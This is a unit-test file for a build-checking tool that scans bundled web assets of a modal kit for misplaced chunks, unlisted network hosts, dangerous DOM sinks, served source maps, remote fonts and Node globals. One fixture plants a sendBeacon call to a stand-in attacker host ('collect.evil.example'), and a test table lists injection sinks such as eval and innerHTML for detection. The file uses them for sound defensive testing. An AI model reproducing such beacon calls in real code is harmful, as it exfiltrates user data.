import { describe, expect, test } from 'vitest'
import { config, type Files, healthy, main } from '../../test/unit/doctor-run.js'
import { examine } from '../../test/unit/examine.js'

const shell = 'Couldn’t load. Check your connection and try again.'
const modal = `var t="${shell}",h="mk-header"`
const entry = '<script type="module" crossorigin src="/assets/index-a.js"></script>'
const page = (head = entry) => `<!doctype html><html lang="en"><head>${head}</head><body></body></html>`

/** A build as Vite leaves it: the page loads `index` and what that imports, the modal comes later. */
const built = (change: Files = {}): Files => ({
  'dist/index.html': page(),
  'dist/assets/index-a.js':
    'import{a}from"./shared-b.js";var k="@modal-kit/1/";fetch("https://api.of-the-app.example");document.body.innerHTML="";import("./modal-c.js")',
  'dist/assets/shared-b.js': 'export const a=1',
  'dist/assets/modal-c.js': `const t="${shell}",u="https://rpc.example/mainnet",n="http://www.w3.org/2000/svg";export{t}`,
  'dist/assets/index-d.css': '@font-face{src:url(/assets/inter.woff2)}',
  ...change,
})
const offline = async (change: Files, ...flags: readonly string[]) =>
  examine({ files: { ...(await healthy()), ...change } }, '--offline', ...flags)

test('behavior: a good build has nothing to fix, and no build neither', async () => {
  expect((await offline(built())).findings).toEqual([])
  expect((await offline(built(), '--mode', 'production')).findings).toEqual([])
})

describe('chunks (D-17)', () => {
  test('behavior: words of the modal and of its views in a script of the page are not the modal', async () => {
    const texts = await import('../../schema/texts.js')
    const how = texts.textsIn('en').find(({ key }) => key === 'receive.how')?.english ?? ''
    const files = built({ 'dist/assets/shared-b.js': `export const a="${shell}",b="${how}"` })
    expect((await offline(files)).findings).toEqual([])
  })

  test('error: D-17: a rule of vite.config that moves the modal is named, also before a build', async () => {
    const config = `export default {
  build: { rollupOptions: { output: { manualChunks: (id) => (id.includes('node_modules') ? 'vendor' : undefined) } } },
}
`
    const heavy = built({ 'dist/assets/shared-b.js': modal, 'vite.config.ts': config })
    const { findings, code } = await offline(heavy)
    expect([findings[0]?.id, code]).toEqual(['D-17', 1])
    expect(findings[0]?.fix).toContain('remove manualChunks of vite.config.ts:2, or leave create-modal-kit out of it')
    const before = await offline({ 'vite.config.ts': config })
    expect(before.findings).toMatchObject([{ id: 'D-17', severity: 'warning', file: 'vite.config.ts', line: 2 }])
    const inlined = {
      'vite.config.ts': 'export default { build: { rollupOptions: { output: { inlineDynamicImports: true } } } }',
    }
    expect((await offline(inlined)).ids).toEqual(['D-17'])
    const react = config.replace('node_modules', 'node_modules/react')
    expect((await offline({ 'vite.config.ts': react })).findings).toEqual([])
    expect((await offline({ ...built(), 'vite.config.ts': config })).findings).toEqual([])
  })

  test('error: the modal is in a script that the page imports; the fix, applied, passes', async () => {
    const heavy = { 'dist/assets/shared-b.js': modal }
    const source = `import { features } from './modal-kit/modal'\n${main('<ModalKit />')}`
    const { ids, findings, code } = await offline({ ...built(heavy), 'src/main.tsx': source })
    expect([ids, code]).toEqual([['D-17'], 1])
    expect(findings[0]).toMatchObject({
      file: 'dist/assets/shared-b.js',
      what: 'dist/assets/shared-b.js is loaded with the page, and holds the shell of the modal.',
      fix: expect.stringContaining('src/main.tsx:1 imports ./modal-kit/modal'),
    })
    expect((await offline({ ...built(), 'src/main.tsx': main('<ModalKit />') })).findings).toEqual([])
  })

  test('error: a bundler that keeps everything in one file', async () => {
    const { ids, findings } = await offline(built({ 'dist/assets/index-a.js': modal }))
    expect(ids).toEqual(['D-17'])
    expect(findings[0]?.fix).toContain('inlineDynamicImports')
  })

  test('error: the modal in the page of Next, and in the root of React Router', async () => {
    const next = {
      '.next/BUILD_ID': 'x',
      '.next/server/app/index.html': page('<script src="/_next/static/chunks/12-a.js" async=""></script>'),
      '.next/static/chunks/12-a.js': modal,
    }
    const found = await offline(next)
    expect(found.ids).toEqual(['D-17'])
    expect(found.findings[0]?.what).toContain('the shell of the modal')
    const router = {
      'build/client/assets/manifest-1.js':
        'window.__reactRouterManifest={"entry":{"module":"/assets/entry.client-a.js","imports":[]},"routes":{"root":{"id":"root","module":"/assets/root-b.js","imports":["/assets/c-d.js"]},"routes/x":{"module":"/assets/x-e.js"}}};',
      'build/client/assets/c-d.js': modal,
      'build/client/assets/x-e.js': modal,
    }
    expect((await offline(router)).findings.map(({ id, file }) => [id, file])).toEqual([
      ['D-17', 'build/client/assets/c-d.js'],
    ])
  })

  test('behavior: what `next dev` leaves behind is no build', async () => {
    const files = { '.next/static/chunks/a.js': `var t="${shell}";eval("x")`, '.next/server/app/index.html': page() }
    expect((await offline(files)).findings).toEqual([])
  })
})

test('error: D-18: a host that the config does not name; built again without it, it passes', async () => {
  const modal = `const t="${shell}";navigator.sendBeacon("https://collect.evil.example/x")`
  const { ids, findings, code } = await offline(built({ 'dist/assets/modal-c.js': modal }))
  expect([ids, code]).toEqual([['D-18'], 1])
  expect(findings[0]?.what).toContain('names collect.evil.example')
  expect(findings[0]?.fix).toContain('grep -rl collect.evil.example node_modules')
  expect((await offline(built())).findings).toEqual([])
})

test('behavior: D-18: a host of the sources of the app is its own, in whatever chunk it is', async () => {
  const modal = `const t="${shell}";fetch("https://prices.of-the-app.example/v1")`
  const files = built({ 'dist/assets/modal-c.js': modal })
  expect((await offline(files)).ids).toEqual(['D-18'])
  const source = { 'src/prices.ts': "export const prices = () => fetch('https://prices.of-the-app.example/v1')\n" }
  expect((await offline({ ...files, ...source })).findings).toEqual([])
})

test.each([
  ['innerHTML or its like', 'e.innerHTML=n'],
  ['insertAdjacentHTML or its like', 'e.insertAdjacentHTML("beforeend",n)'],
  ['DOMParser', 'new DOMParser().parseFromString(n,"text/html")'],
  ['a srcdoc', 'e.srcdoc=n'],
  ['document.write', 'document.write(n)'],
  ['eval', 'eval(n)'],
  ['Function', 'new Function("return 1")'],
  ['a script element', 'document.createElement("script")'],
])('error: D-19: %s in the modal', async (name, code) => {
  const { ids, findings } = await offline(built({ 'dist/assets/modal-c.js': `const t="${shell}";\n${code}` }))
  expect(ids).toEqual(['D-19'])
  expect(findings[0]).toMatchObject({ file: 'dist/assets/modal-c.js', line: 2, severity: 'error' })
  expect(findings[0]?.what).toContain(`uses ${name},`)
})

test('error: D-35: source maps that are served; built without them, it passes', async () => {
  const map = 'export const a=1\n//# sourceMappingURL=shared-b.js.map\n'
  const files = built({ 'dist/assets/shared-b.js': map })
  const { ids, findings, code } = await offline(files, '--mode', 'production')
  expect([ids, code]).toEqual([['D-35'], 0])
  expect(findings[0]).toMatchObject({ file: 'dist/assets/shared-b.js', severity: 'warning' })
  expect((await offline(files)).findings).toEqual([])
  expect((await offline(built(), '--mode', 'production')).findings).toEqual([])
})

describe('remote parts (U-built-remote)', () => {
  test('error: a font by the page or by a stylesheet; with an own copy it passes', async () => {
    const link = '<link rel="stylesheet" href="https://fonts.example/css?family=Inter">'
    const { ids, findings } = await offline(
      built({
        'dist/index.html': page(`${entry}${link}`),
        'dist/assets/index-d.css': '@font-face{src:url("https://fonts.example/inter.woff2")}',
      }),
    )
    expect(ids).toEqual(['U-built-remote'])
    expect(findings.map(({ what }) => what)).toEqual([
      'dist/index.html loads https://fonts.example/css?family=Inter.',
      'dist/assets/index-d.css loads https://fonts.example/inter.woff2.',
    ])
    expect((await offline(built())).findings).toEqual([])
  })

  test('behavior: what stands on the origin of the app, or is pinned, is its own', async () => {
    const script = '<script integrity="sha384-x" src="https://cdn.example/a.js"></script>'
    const own = '<script src="https://app.example/b.js"></script>'
    expect((await offline(built({ 'dist/index.html': page(`${entry}${script}${own}`) }))).findings).toEqual([])
  })
})

describe('names of Node (U-node-globals)', () => {
  test.each([
    ['process', 'var a=process.env.DEBUG', 'var process={env:{}},a=process.env.DEBUG'],
    ['Buffer', 'var a=Buffer.from("x")', 'function Buffer(){}var a=Buffer.from("x")'],
    ['global', 'var a=global.fetch', 'var global=globalThis,a=global.fetch'],
  ])('error: %s; where it is defined, it passes', async (name, bad, good) => {
    const { ids, findings, code } = await offline(built({ 'dist/assets/vendor-e.js': bad }))
    expect([ids, code]).toEqual([['U-node-globals'], 0])
    expect(findings[0]?.what).toContain(`uses ${name}, which no browser has`)
    expect((await offline(built({ 'dist/assets/vendor-e.js': good }))).findings).toEqual([])
  })

  test('behavior: code that looks before it uses them is left alone', async () => {
    const code = 'var a=typeof process<"u"&&process.env.X,b=typeof Buffer<"u"&&Buffer.from("x"),c=x.process.env'
    expect((await offline(built({ 'dist/assets/vendor-e.js': code }))).findings).toEqual([])
  })
})

describe('budgets (U-budgets)', () => {
  const noise = Array.from({ length: 9_000 }, (_, index) =>
    ((index * 2_654_435_761) % 4_294_967_296).toString(36),
  ).join('')

  test('error: a chunk of the modal with something else in it; without that it passes', async () => {
    const modal = `const t="${shell}",x="${noise}"`
    const { ids, findings, code } = await offline(built({ 'dist/assets/modal-c.js': modal }))
    expect([ids, code]).toEqual([['U-budgets'], 0])
    expect(findings[0]?.what).toMatch(/^dist\/assets\/modal-c\.js has [\d.]+ kB gzip; with these features/)
    expect((await offline(built({ 'dist/assets/vendor-e.js': `const x="${noise}"` }))).findings).toEqual([])
  })

  test('error: storage of another version of the kit', async () => {
    const { ids, findings } = await offline(built({ 'dist/assets/vendor-e.js': 'var k="@modal-kit/0/session"' }))
    expect(ids).toEqual(['U-budgets'])
    expect(findings[0]?.what).toContain(
      'uses the storage key @modal-kit/0, and this version of the kit uses @modal-kit/1',
    )
  })
})

test('behavior: hosts of the config are known, in whatever part of it', async () => {
  const text = config({ app: "{ name: 'App', url: 'https://app.example', icons: ['https://img.example/a.png'] }" })
  const modal = `const t="${shell}",u="https://img.example/a.png"`
  const files = { ...(await healthy(text)), ...built({ 'dist/assets/modal-c.js': modal }) }
  expect((await examine({ files }, '--offline')).findings).toEqual([])
})
